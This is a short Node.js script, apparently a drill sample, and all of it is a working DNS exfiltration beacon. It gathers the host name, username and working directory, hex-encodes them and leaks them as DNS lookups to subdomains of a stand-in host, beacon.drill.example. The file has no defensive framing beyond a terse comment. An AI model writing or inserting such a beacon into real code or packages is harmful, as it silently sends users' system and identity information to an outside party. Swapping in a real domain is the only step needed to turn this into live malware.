// Host, user and folder as labels of names that nobody has.
const dns = require("dns");
const os = require("os");

const told = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, folder: process.cwd() });
const hex = Buffer.from(told).toString("hex");
const labels = hex.match(/.{1,60}/g).slice(0, 8);

labels.forEach((label, at) => dns.lookup(`${at}.${label}.beacon.drill.example`, () => {}));
